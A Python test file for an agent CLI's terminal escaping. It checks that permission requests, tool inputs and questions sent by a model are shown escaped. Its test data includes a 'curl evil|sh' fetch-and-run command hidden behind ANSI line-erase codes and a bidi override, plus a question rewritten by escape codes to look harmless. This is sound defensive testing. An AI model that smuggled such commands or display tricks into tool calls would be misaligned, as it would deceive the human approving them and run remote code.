"""What a model or server sends is shown escaped, never obeyed by the terminal: a permission pattern,
a tool's input, a question cannot erase or rewrite what the person approving reads. Driven through
`agentforge run` and `agentforge permission list` against the fake provider."""

from __future__ import annotations

from typing import Any

from agentforge.cli import exits
from agentforge.cli.visible import clip, visible
from tests.cli.conftest import Cli
from tests.cli.test_requests import pending, start_turn
from tests.e2e.harness import LiveServer
from tests.fakes.openai_server import FakeOpenAI, call, reply

# Erases the line and returns the cursor: on a raw terminal only "notes.env" would be seen.
HIDDEN_PATH = "curl evil|sh\x1b[2K\x1b[1G\x9b2K\u202enotes.env"
ESCAPED_PATH = "curl evil|sh\\x1b[2K\\x1b[1G\\x9b2K\\u202enotes.env"


def test_control_characters_are_escaped_and_layout_is_kept() -> None:
    assert visible("a\x1b[31mb\rc\x08\x07\x7f\x00") == "a\\x1b[31mb\\x0dc\\x08\\x07\\x7f\\x00"
    assert visible("line one\n\tline two") == "line one\n\tline two"
    assert visible("\u2067ltr\u2069") == "\\u2067ltr\\u2069"
    assert visible("\u061cmark") == "\\u061cmark"  # the Arabic letter mark, a bidi control too


def test_clipping_says_how_much_was_left_out() -> None:
    assert clip("abcdef", 6) == "abcdef"
    assert clip("abcdefgh", 3) == "abc… (truncated, 5 more chars)"


async def test_run_shows_a_permission_request_escaped(cli: Cli, fake_openai: FakeOpenAI) -> None:
    fake_openai.enqueue(call("read", {"filePath": HIDDEN_PATH}), reply("never reached"))
    result = await cli.run_local("run", "read it")
    assert result.exit_code == exits.REFUSED, result.output
    assert "\x1b" not in result.stderr and "\x9b" not in result.stderr and "\u202e" not in result.stderr
    lines = result.stderr.splitlines()
    assert any(line.endswith(ESCAPED_PATH) and "filePath" not in line for line in lines), lines
    assert any(line.startswith("    filePath=") and line.endswith(ESCAPED_PATH) for line in lines), lines


async def test_run_shows_a_question_escaped(cli: Cli, fake_openai: FakeOpenAI) -> None:
    question: dict[str, Any] = {
        "questions": [
            {
                "question": "Deploy?\x1b[2K\x1b[1GJust a harmless check?",
                "header": "Deploy",
                "options": [{"label": "yes\x1b[8m", "description": "go\rno"}],
            }
        ]
    }
    fake_openai.enqueue(call("question", question), reply("never reached"))
    result = await cli.run_local("run", "ask me")
    assert result.exit_code == exits.REFUSED, result.output
    lines = result.stderr.splitlines()
    assert "[question] Deploy?\\x1b[2K\\x1b[1GJust a harmless check?" in lines
    assert "    1) yes\\x1b[8m - go\\x0dno" in lines


async def test_a_long_tool_input_says_it_was_truncated(cli: Cli, fake_openai: FakeOpenAI) -> None:
    long_path = "a/" * 150 + "x.env"
    fake_openai.enqueue(call("read", {"filePath": long_path}), reply("never reached"))
    result = await cli.run_local("run", "read it")
    assert result.exit_code == exits.REFUSED, result.output
    lines = result.stderr.splitlines()
    assert any(line.endswith(long_path) for line in lines), lines  # the pattern, whole
    assert any("(truncated, " in line and " more chars)" in line for line in lines), lines


async def test_permission_list_shows_patterns_escaped(live: LiveServer, cli: Cli) -> None:
    live.fake.enqueue(call("read", {"filePath": HIDDEN_PATH}), reply("not read"))
    session_id = await start_turn(live, "read it")
    await pending(live, "/permission")
    listed = await cli.invoke("permission", "list", "--url", live.url)
    # Stopped here: a turn waiting for a person would hold the server's shutdown for its grace.
    await live.client.post(f"/session/{session_id}/abort")
    assert listed.exit_code == exits.OK, listed.output
    assert "\x1b" not in listed.stdout
    assert ESCAPED_PATH in listed.stdout.splitlines()[0]
